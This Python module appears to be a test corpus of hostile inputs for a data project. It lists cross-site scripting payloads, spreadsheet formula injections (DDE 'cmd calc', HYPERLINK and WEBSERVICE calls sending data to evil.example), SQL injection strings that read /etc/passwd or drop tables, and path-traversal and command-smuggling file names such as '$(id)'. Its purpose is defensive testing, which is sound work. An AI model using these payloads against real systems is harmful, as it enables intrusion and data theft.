"""What would somebody write into a field, a link or a name to do harm?"""

from __future__ import annotations

MARK = "pwned"  # the window gets a property of this name where a script of the corpus has run
RUN = f"window.{MARK}=1;alert(1)"

# Text that becomes a script where it is taken for markup; short, since identifiers must hold it too.
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"</script><script>{RUN}</script>",
    f"</title></style></textarea><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<a href=javascript:{RUN}>按此</a>",
    f"[按此](javascript:{RUN})",
    f'![圖](x" onerror="{RUN})',
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext></p><img src=x onerror={RUN}></math>",
    f"<a xlink:href=javascript:{RUN}>圖</a>",
    f"-->]]><img src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"';{RUN}//",
    f'";{RUN}//',
    f'\\";{RUN}//',
    f"\u2028{RUN}//",
    f"&lt;img src=x onerror={RUN}&gt;",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<img src=http://evil.example/x.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input type=submit></form>",
    "![](http://evil.example/x.png)",
    f"<%={RUN}%>",
    "{% import os %}{{ 7*7 }}",
)
# Text that a spreadsheet would compute.
FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc", "of:=1+1", "{=1+1}",
)  # fmt: skip
# Text that becomes a statement where it is pasted into one. `{}` is a path that must never come to be.
SQL = (
    "' or 1=1 --", "' or '1'='1", "1; drop table marts.works", "'; drop table marts.works; --",
    "') union select * from meta.sources --", "' union select 1,2,3 --", "1) or (1=1", "x' || (select 1) || '",
    "'; copy (select 1) to '{}'; --", "'; attach '{}'; --", "'; install httpfs; load httpfs; --",
    "(select read_text('/etc/passwd'))", "' and 1=cast((select current_setting('temp_directory')) as int) --",
    "\"; select 1; --", "$$; select 1; $$", "/* */ or 1=1", "0x27206f7220313d31", "%27%20or%201=1--", "' or pi()>3 --",
    "\\' or 1=1 --", "';vacuum;--", "1 or 1=1", "month, (select 1)", "marts.works; select", "'\x00' or 1=1",
    "year) from marts.works; --", "null) or true --", "🤷' or 1=1 --", "' limit 0; pragma database_list; --",
    "' union all select path, null from duckdb_databases() --",
)  # fmt: skip
# Names that lead out of the folder they are put into.
PATHS = (
    "../evil", "../../evil", "../../../../../../tmp/evil", "/tmp/evil", "/etc/passwd", "..\\evil", "..\\..\\evil",
    "C:\\evil", "\\\\server\\share\\evil", "....//evil", "..%2fevil", "%2e%2e%2fevil", "..%252fevil", "..;/evil",
    "evil\x00.csv", "evil\n.csv", "~/evil", "$HOME/evil", "`id`", "$(id)", "|id", ";id", "&id", "con", "nul", "..", ".",
    "", " ", "-rf", "--help", "receipt.json", "marks.jsonl", "current", ".part", "a" * 300, "…/evil", "‮vsc.evil",
    "．．／evil", "..／evil", "evil/../../evil", "file:///etc/passwd", "http://evil.example/x", "*", "?", "<evil>",
)  # fmt: skip
